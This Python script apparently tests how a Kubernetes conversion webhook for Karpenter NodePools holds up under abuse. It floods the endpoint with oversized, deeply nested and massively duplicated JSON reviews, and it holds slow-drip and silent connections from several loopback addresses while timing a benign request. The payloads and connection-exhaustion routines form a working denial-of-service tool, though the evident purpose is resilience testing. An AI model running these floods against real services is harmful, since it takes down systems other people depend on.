#!/usr/bin/env python3
"""Conversion reviews that are meant to do harm, all at once, and small ones of somebody else between them.

    hostile_reviews.py HOST:PORT [SECONDS] [--pause SECONDS] [--addresses COUNT]

Prints JSON: what the small ones met, and how often each status came to the others. With --pause each kind of harm rests between
two reviews; with --addresses it comes from so many addresses that are not this machine's own, as from pods.
"""

import argparse
import collections
import json
import socket
import ssl
import threading
import time

CONTEXT = ssl.create_default_context()
CONTEXT.check_hostname, CONTEXT.verify_mode = False, ssl.CERT_NONE
MIB = 1 << 20
#: Connections on which a body comes byte by byte, those on which nobody says anything, and the pause between two bytes.
DRIPPING, SILENT, DRIP = 40, 150, 0.5
#: All of 127.0.0.0/8 is on the loopback interface: of these addresses none is this machine's own.
ELSEWHERE = "127.0.3."
#: No answer, and one that nobody waited for.
NONE, NOT_TAKEN = 0, -1


def review(objects, to="v1beta1", uid="u"):
    head = {"apiVersion": "apiextensions.k8s.io/v1", "kind": "ConversionReview"}
    text = json.dumps(head)[:-1] + f', "request": {{"uid": "{uid}", "desiredAPIVersion": "karpenter.sh/{to}", "objects": ['
    return text.encode() + b",".join(objects) + b"]}}"


def pool(spec, version="v1", name="a"):
    return b'{"apiVersion":"karpenter.sh/%s","kind":"NodePool","metadata":{"name":"%s"},"spec":%s}' % (
        version.encode(), name.encode(), spec)


def deep_pool():
    """A small pool with managed fields that are 130 levels deep."""
    fields = b'"metadata":{"managedFields":[%s1%s],' % (b'{"f:a":' * 130, b"}" * 130)
    return pool(b'{"weight":1}').replace(b'"metadata":{', fields)


def head(length):
    return f"POST /conversion/karpenter.sh HTTP/1.1\r\nhost: x\r\nconnection: close\r\ncontent-length: {length}\r\n\r\n".encode()


class Target:
    """A webhook's port, as it is reached from an address; this machine's own where none is said."""

    def __init__(self, address, source=""):
        host, port = address.rsplit(":", 1)
        self.at, self.source = (host, int(port)), (source, 0) if source else None

    def reach(self):
        return socket.create_connection(self.at, timeout=30, source_address=self.source)

    def connect(self):
        raw = self.reach()
        try:
            return CONTEXT.wrap_socket(raw)
        except OSError:
            raw.close()
            raise

    def ask(self, body, untaken=0.0):
        """The status and body that a review is answered with. One that is not taken is left lying for so long."""
        try:
            with self.connect() as stream:
                try:
                    stream.sendall(head(len(body)) + body)
                except OSError:
                    pass  # who is refused is hung up on before all was sent, and may read why
                if untaken:
                    time.sleep(untaken)
                    return NOT_TAKEN, b""
                answer = b"".join(iter(lambda: stream.recv(1 << 16), b""))
            return int(answer[9:12] or 0), answer.split(b"\r\n\r\n", 1)[-1]
        except (OSError, ValueError):
            return NONE, b""


def attacks():
    maps = b'{"":{}},'
    balanced = {"consolidationPolicy": "Balanced"}
    fields = json.dumps({"template": {"metadata": {"annotations": {"a": "b"}}}, "disruption": balanced})
    quotes = b'{"replicas":1,"template":{"metadata":{"annotations":{"q":"%s"}}}}' % (b'\\"' * (60 * 1024))
    heavy = b'{"template":{"metadata":{"labels":{%s"z":"z"}}}}' % b"".join(b'"l%d":"",' % n for n in range(5_000))
    maps_each = b'{"replicas":1,"template":{"x":[%s0]}}' % (maps * 1_200)
    return {
        "maps-31": review([b"[" + maps * (31 * MIB // len(maps)) + b"0]"]),
        "maps-7": review([pool(b"[" + maps * (7 * MIB // len(maps)) + b"0]")]),
        "maps-2": review([pool(b"[" + maps * (MIB // len(maps)) + b"0]")]),
        "no-review": b"[" + maps * (7 * MIB // len(maps)) + b"0]",
        "deep": review([pool(b'{"":' * (2 * MIB) + b"1" + b"}" * (2 * MIB))]),
        "pools-190000": review([pool(b"{}")] * 190_000),
        "pools-9000": review([pool(fields.encode(), "v1")] * 9_000),
        "deep-fields": review([deep_pool()] * 300),
        "numbers": review([b"0"] * (3 * MIB)),
        "quotes": review([pool(quotes)] * 60),
        "heavy": review([pool(heavy)] * 90),
        "maps-each": review([pool(maps_each)] * 600),
        "fields": review([b"{" + b",".join(b'"n%d":0' % n for n in range(600_000)) + b"}"]),
    }


class Harm:
    """All that is meant to do harm, and what it met."""

    def __init__(self, address, seconds, pause, addresses):
        self.until, self.pause, self.lock = time.monotonic() + seconds, pause, threading.Lock()
        self.statuses, self.threads, self.seconds = {}, [], seconds
        pod = lambda number: Target(address, f"{ELSEWHERE}{number % (addresses or 8) + 1}")
        bodies = attacks()
        kinds = [*bodies.items()] + [("not-taken", bodies["quotes"])] * 3 + [("small", bodies["maps-2"])] * 4
        for number, (name, body) in enumerate(kinds):
            untaken = (pause or seconds) if name == "not-taken" else 0.0
            self.begin(name, self.review, pod(number) if addresses else Target(address), body, untaken)
        # Many at once are nobody's but pods': this machine's own places are for others (observability/src/places.rs).
        self.begin("drips", self.hold, [pod(number) for number in range(DRIPPING)], Target.connect, head(MIB), b" ")
        self.begin("silent", self.hold, [pod(number) for number in range(SILENT)], Target.reach, b"", b"")

    def begin(self, name, act, *given):
        self.statuses.setdefault(name, collections.Counter())
        self.threads.append(threading.Thread(target=act, args=(name, *given), daemon=True))
        self.threads[-1].start()

    def counts(self, name, status):
        with self.lock:
            self.statuses[name][status] += 1

    def rests(self):
        time.sleep(max(0.0, min(self.pause, self.until - time.monotonic())))

    def review(self, name, target, body, untaken):
        """Sends it again and again."""
        while time.monotonic() < self.until:
            self.counts(name, target.ask(body, untaken)[0])
            self.rests()

    def hold(self, name, targets, connect, first, more):
        """Holds a connection from each, and says more on it now and then; begins anew when few are left."""
        held = []
        while time.monotonic() < self.until:
            if len(held) <= len(targets) // 4:
                for target in targets:
                    if time.monotonic() < self.until:
                        self.counts(name, self.opened(held, target, connect, first))
                self.rests()
            held = [stream for stream in held if goes_on(stream, more)]
            time.sleep(DRIP)
        for stream in held:
            stream.close()

    def opened(self, held, target, connect, first):
        try:
            stream = connect(target)
            stream.settimeout(1)
            held.append(stream)
            stream.sendall(first)
            return NOT_TAKEN
        except OSError:
            return NONE


def goes_on(stream, more):
    """Whether the connection is still there, as far as saying more, or hearing that it has ended, tells that."""
    try:
        if more:
            stream.sendall(more)
            return True
        stream.setblocking(False)
        gone = stream.recv(1) == b""
    except BlockingIOError:
        return True
    except OSError:
        gone = True
    if gone:
        stream.close()
    return not gone


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("address", metavar="HOST:PORT")
    parser.add_argument("seconds", type=float, nargs="?", default=6)
    parser.add_argument("--pause", type=float, default=0.0, help="seconds that each kind of harm rests between two reviews")
    parser.add_argument("--addresses", type=int, default=0, help="addresses that harm comes from; 0 is this machine's own")
    given = parser.parse_args()
    harm = Harm(given.address, given.seconds, given.pause, given.addresses)
    small, innocent = review([pool(b'{"weight":1}'), deep_pool()]), Target(given.address)
    slowest, met = 0.0, collections.Counter()
    while time.monotonic() < harm.until:
        begun = time.monotonic()
        status, body = innocent.ask(small)
        slowest = max(slowest, time.monotonic() - begun)
        met[f"{status} {body.count(b'karpenter.sh/v1beta1')} {b'Success' in body}"] += 1
        time.sleep(0.1 if not given.pause else 0.5)
    patience = time.monotonic() + 30
    for thread in harm.threads:
        thread.join(max(0.0, patience - time.monotonic()))
    print(json.dumps({"slowest": round(slowest, 2), "met": met, "others": harm.statuses}))


if __name__ == "__main__":
    main()
